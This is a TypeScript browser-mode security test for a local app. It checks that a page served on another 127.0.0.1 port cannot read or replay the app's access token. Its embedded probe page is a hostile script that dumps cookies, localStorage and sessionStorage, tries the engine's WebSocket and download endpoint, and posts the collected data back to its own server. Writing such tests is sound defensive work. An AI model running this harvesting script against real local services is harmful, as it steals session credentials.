/**
 * Another local server, opened in the same browser as browser mode, must learn nothing that lets
 * it (or anyone it tells) reach the engine. Before the fix the token was a cookie, and cookies are
 * not port-scoped: every request to any 127.0.0.1 port carried it.
 */
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import { RPC_PROTOCOL, tokenFromFragment } from '../../shared/rpc/browser-credentials';
import { CHROMIUM_SKIP_MESSAGE, hasChromium, startApp, type RunningApp } from './harness';
import { AppPage } from './pages/app-page';

if (!hasChromium) console.warn(CHROMIUM_SKIP_MESSAGE);

/** The token as `kequn serve` printed it (the fragment; older builds put it in the query). */
function printedToken(url: string): string {
  const u = new URL(url);
  const token = tokenFromFragment(u.hash) ?? u.searchParams.get('token');
  if (!token) throw new Error(`no token in ${url}`);
  return token;
}

interface Seen {
  url: string;
  headers: IncomingHttpHeaders;
}

interface ProbeReport {
  cookie: string;
  local: string;
  session: string;
  socket: string;
  download: string;
}

/** The other server's page: collects what a hostile page on another port can see and try. */
function probePage(kequnPort: number): string {
  return `<!doctype html><title>probe</title><script>
(async () => {
  const kequn = 'http://127.0.0.1:${kequnPort}';
  const dump = (s) => JSON.stringify(Object.fromEntries(Object.keys(s).map((k) => [k, s.getItem(k)])));
  const socket = await new Promise((ok) => {
    const ws = new WebSocket('ws://127.0.0.1:${kequnPort}/rpc', ['${RPC_PROTOCOL}']);
    ws.onopen = () => { ok('open'); ws.close(); };
    ws.onerror = () => ok('refused');
  });
  let download = '';
  try {
    const r = await fetch(kequn + '/download', { credentials: 'include' });
    download = String(r.status) + ' ' + (await r.text());
  } catch (e) { download = 'blocked ' + e; }
  const report = { cookie: document.cookie, local: dump(localStorage), session: dump(sessionStorage), socket, download };
  await fetch('/report', { method: 'POST', body: JSON.stringify(report) });
})();
</script>`;
}

describe.skipIf(!hasChromium)('browser mode: a page on another 127.0.0.1 port receives nothing that connects', () => {
  let app: RunningApp;
  let other: Server;
  let otherPort = 0;
  let kequnPort = 0;
  const seen: Seen[] = [];
  let report: Promise<ProbeReport>;

  beforeAll(async () => {
    app = await startApp({ name: 'cross-port' });
    await new AppPage(app.page).waitReady();
    kequnPort = Number(new URL(app.url).port);
    let deliver: (r: ProbeReport) => void = () => undefined;
    report = new Promise((ok) => (deliver = ok));
    other = createServer((req, res) => {
      seen.push({ url: req.url ?? '', headers: req.headers });
      if (req.method === 'POST' && req.url === '/report') {
        let body = '';
        req.on('data', (c: Buffer) => (body += c.toString('utf8')));
        req.on('end', () => {
          deliver(JSON.parse(body) as ProbeReport);
          res.end('ok');
        });
        return;
      }
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(req.url === '/' ? probePage(kequnPort) : '');
    });
    await new Promise<void>((ok) => other.listen(0, '127.0.0.1', ok));
    otherPort = (other.address() as AddressInfo).port;
  });

  afterAll(async () => {
    await new Promise((ok) => other?.close(ok));
    await app?.close();
  });

  it('the Kequn tab is connected, and its token is in no cookie and no longer in the address bar', async () => {
    const token = printedToken(app.url);
    expect(await app.page.locator('[data-testid="engine-state"]').innerText()).toBe('已连接');
    expect(app.page.url()).not.toContain(token);
    const cookies = await app.context.cookies();
    expect(JSON.stringify(cookies)).not.toContain(token);
  });

  it('the other server sees no token in any request; its page sees none and cannot open the engine socket', async () => {
    const token = printedToken(app.url);
    const probe = await app.context.newPage();
    try {
      await probe.goto(`http://127.0.0.1:${otherPort}/`);
      const r = await report;
      expect(seen.length).toBeGreaterThanOrEqual(2);
      expect(JSON.stringify(seen)).not.toContain(token);
      expect(seen.every((s) => s.headers.cookie === undefined || !s.headers.cookie.includes('kequn'))).toBe(true);
      expect(JSON.stringify(r)).not.toContain(token);
      expect(r.socket).toBe('refused');
      expect(r.download).not.toMatch(/^200/);
    } finally {
      await probe.close();
    }
  });

  it('a non-browser client replaying everything the other server received is refused by the engine', async () => {
    const origin = `http://127.0.0.1:${kequnPort}`;
    const statuses: (number | 'open')[] = [];
    for (const s of seen) {
      const headers: Record<string, string> = {};
      for (const [k, v] of Object.entries(s.headers)) {
        if (v === undefined || ['host', 'connection', 'upgrade', 'content-length', 'sec-websocket-key', 'sec-websocket-version'].includes(k)) continue;
        headers[k] = Array.isArray(v) ? v.join(', ') : v;
      }
      statuses.push(
        await new Promise<number | 'open'>((ok) => {
          const ws = new WebSocket(`ws://127.0.0.1:${kequnPort}/rpc`, [RPC_PROTOCOL], { origin, headers });
          ws.once('open', () => {
            ok('open');
            ws.close();
          });
          ws.once('unexpected-response', (_req, res) => {
            ok(res.statusCode ?? 0);
            ws.terminate();
          });
          ws.on('error', () => ok(0));
        }),
      );
    }
    expect(statuses.length).toBeGreaterThan(0);
    expect(statuses.every((st) => st === 403)).toBe(true);
  });
});
